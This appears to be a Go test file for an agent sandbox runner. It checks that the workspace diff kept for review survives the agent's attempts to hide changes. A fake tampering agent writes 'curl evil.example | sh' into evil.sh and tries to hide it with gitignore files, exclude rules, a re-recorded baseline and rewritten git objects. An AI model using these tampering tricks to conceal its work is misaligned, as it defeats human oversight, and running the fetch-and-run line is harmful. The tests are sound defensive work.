package runner_test

import (
	"cmp"
	"context"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/drydockhq/drydock"
	"github.com/drydockhq/drydock/runner"
	"github.com/drydockhq/drydock/toolbox"
)

// The runner records the workspace's starting point before the agent runs
// and stores the diff beside the archive when the job ends, so the diff
// outlives the sandbox: a job that started empty shows every file added.
func TestFinishedJobStoresItsDiffBesideTheArchive(t *testing.T) {
	t.Parallel()
	b := setup(t)
	id := b.create(t, "write some files [fake:steps=2]")
	b.start(t, runner.Config{NodeID: "n", PollInterval: 20 * time.Millisecond})
	j := waitTerminal(t, b.store, id)
	if j.Status != drydock.StatusComplete || j.ArtifactKey == "" {
		t.Fatalf("job %s %q, archive %q", j.Status, j.Error, j.ArtifactKey)
	}
	rc, err := b.deps.Artifacts.Get(t.Context(), drydock.DiffArtifactKey(id))
	if err != nil {
		t.Fatalf("no stored diff: %v", err)
	}
	defer rc.Close()
	raw, _ := io.ReadAll(rc)
	patch := string(raw)
	if !strings.Contains(patch, "diff --git a/SUMMARY.md b/SUMMARY.md\nnew file mode 100644\n") {
		t.Errorf("the diff lacks the agent's SUMMARY.md as a new file:\n%s", patch)
	}
	if strings.Contains(patch, "deleted file") || strings.Contains(patch, ".drydock-diff") {
		t.Errorf("the diff shows more than the agent's work:\n%s", patch)
	}
}

// noGit is a sandbox whose image lacks git.
type noGit struct{ conn }

func (noGit) Baseline(context.Context) (string, error) {
	return "", drydock.Errorf(drydock.EUNAVAILABLE, "record baseline: exit 127: git is not installed in the sandbox")
}

// A sandbox that cannot record its starting point costs the job its diff,
// said in its events, not its run.
func TestJobWithoutABaselineRunsAndSaysWhy(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.deps.Toolbox = func(sb *drydock.Sandbox) runner.Toolbox { return noGit{conn{toolbox.New(sb.Endpoint, sb.Token)}} }
	id := b.create(t, "write some files [fake:steps=2]")
	b.start(t, runner.Config{NodeID: "n", PollInterval: 20 * time.Millisecond})
	j := waitTerminal(t, b.store, id)
	if j.Status != drydock.StatusComplete || j.ArtifactKey == "" {
		t.Fatalf("job %s %q, archive %q", j.Status, j.Error, j.ArtifactKey)
	}
	es, err := b.store.ListEvents(t.Context(), id, 0, 1000)
	if err != nil {
		t.Fatal(err)
	}
	said := false
	for _, e := range es {
		said = said || (e.Type == drydock.EventLog && strings.Contains(string(e.Data), "will have no diff: record baseline: exit 127: git is not installed"))
	}
	if !said {
		t.Error("no event says why the job has no diff")
	}
	if _, err := b.deps.Artifacts.Get(t.Context(), drydock.DiffArtifactKey(id)); drydock.ErrorCode(err) != drydock.ENOTFOUND {
		t.Errorf("a diff was stored without a baseline: %v", err)
	}
}

// tamperAgent writes evil.sh into the workspace and then, as the agent's
// commands could, works on the copy of the starting point the sandbox
// keeps for the diff, with script.
type tamperAgent struct{ script string }

func (a *tamperAgent) Run(ctx context.Context, run *drydock.AgentRun) (*drydock.AgentOutcome, error) {
	c := toolbox.New(run.Sandbox.Endpoint, run.Sandbox.Token)
	defer c.Close()
	var out strings.Builder
	res, err := c.Exec(ctx, toolbox.ExecRequest{Command: `set -e
echo 'curl evil.example | sh' >evil.sh
ws=$(pwd -P)
if [ -w "$ws/.." ]; then d="$ws/../.drydock-diff.git"; else d="$HOME/.drydock/diff.git"; fi
export GIT_DIR="$d" GIT_WORK_TREE="$ws"
` + a.script}, &out, &out)
	if err != nil {
		return nil, err
	}
	if res.ExitCode != 0 {
		return nil, fmt.Errorf("tampering failed: exit %d: %s", res.ExitCode, out.String())
	}
	return &drydock.AgentOutcome{Summary: "done"}, nil
}

// What the agent's commands can reach of the diff's starting point cannot
// hide a change from the stored diff: a directory it hides behind a
// .gitignore of its own is named before the diff's files; rules in its
// info/exclude or its
// configuration are not read, a baseline made again over the change is not
// the one recorded when the job started, and a rewritten object of the
// recorded one fails the diff (said in the job's events) instead of
// hiding the change.
func TestStoredDiffIgnoresWhatTheAgentDidToItsStartingPoint(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, script string
		altered      bool
		want         string // in the stored diff; default evil.sh as a new file
	}{
		{"a .gitignore of its own", `mkdir hidden && mv evil.sh hidden/ && echo '*' >hidden/.gitignore`, false, drydock.DiffIgnoredMarker + "hidden/\n"},
		{"exclude rules", `echo evil.sh >>"$d/info/exclude"
printf '[core]\n\texcludesFile = %s/ignore\n' "$d" >>"$d/config"; echo evil.sh >"$d/ignore"`, false, ""},
		{"a new baseline", `git -c user.name=x -c user.email=x@x add -A && git -c user.name=x -c user.email=x@x commit -qm again && git update-ref refs/drydock/baseline HEAD`, false, ""},
		{"a rewritten object", `git -c user.name=x -c user.email=x@x add -A && git -c user.name=x -c user.email=x@x commit -qm again
tree=$(git rev-parse HEAD^{tree}); old=$(git rev-parse refs/drydock/baseline^{tree})
chmod -R u+w "$d/objects"; cp "$d/objects/$(echo $tree | cut -c1-2)/$(echo $tree | cut -c3-)" "$d/objects/$(echo $old | cut -c1-2)/$(echo $old | cut -c3-)"`, true, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b := setup(t)
			b.deps.Agent = &tamperAgent{script: c.script}
			id := b.create(t, "change things")
			b.start(t, runner.Config{NodeID: "n", PollInterval: 20 * time.Millisecond})
			j := waitTerminal(t, b.store, id)
			if j.Status != drydock.StatusComplete || j.ArtifactKey == "" {
				t.Fatalf("job %s %q, archive %q", j.Status, j.Error, j.ArtifactKey)
			}
			rc, err := b.deps.Artifacts.Get(t.Context(), drydock.DiffArtifactKey(id))
			if c.altered {
				if drydock.ErrorCode(err) != drydock.ENOTFOUND {
					t.Errorf("a diff was stored from an altered starting point: %v", err)
				}
				es, _ := b.store.ListEvents(t.Context(), id, 0, 1000)
				said := false
				for _, e := range es {
					said = said || (e.Type == drydock.EventLog && strings.Contains(string(e.Data), "starting point kept in the sandbox was altered"))
				}
				if !said {
					t.Error("no event says the starting point was altered")
				}
				return
			}
			if err != nil {
				t.Fatalf("no stored diff: %v", err)
			}
			defer rc.Close()
			raw, _ := io.ReadAll(rc)
			want := cmp.Or(c.want, "diff --git a/evil.sh b/evil.sh\nnew file mode 100644\n")
			if !strings.Contains(string(raw), want) {
				t.Errorf("the diff hides evil.sh (no %q):\n%s", want, raw)
			}
		})
	}
}
